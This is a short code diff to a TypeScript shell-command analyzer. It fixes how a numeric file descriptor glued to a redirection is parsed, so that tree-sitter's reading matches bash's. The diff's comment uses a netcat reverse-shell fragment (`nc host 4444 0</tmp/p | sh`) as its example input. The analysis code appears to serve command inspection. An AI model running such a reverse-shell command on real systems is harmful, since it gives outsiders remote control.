@@ -860,6 +860,10 @@ export class Analyzer implements BuiltinHost {
         }
       }
     }
+    // `nc host 4444 0</tmp/p | sh`: tree-sitter reads the descriptor glued to a redirection of the
+    // enclosing statement as a last argument; bash reads it as the redirection's descriptor.
+    const lastWord = wordNodes[wordNodes.length - 1];
+    if (lastWord && !lastWord.isName && /^\d+$/.test(this.text(lastWord.node, frame)) && [...redirectNodes, ...(io.redirects ?? [])].some((r) => r.start === lastWord.node.end)) wordNodes.pop();
     const argHost = this.host(frame, id, 'command_substitution', []);
     for (const group of glueAdjacent(wordNodes, frame.source)) {
       const resolved = resolveWord(group.node, group.isName ? this.host(frame, id, 'command_substitution', nameInner) : argHost);
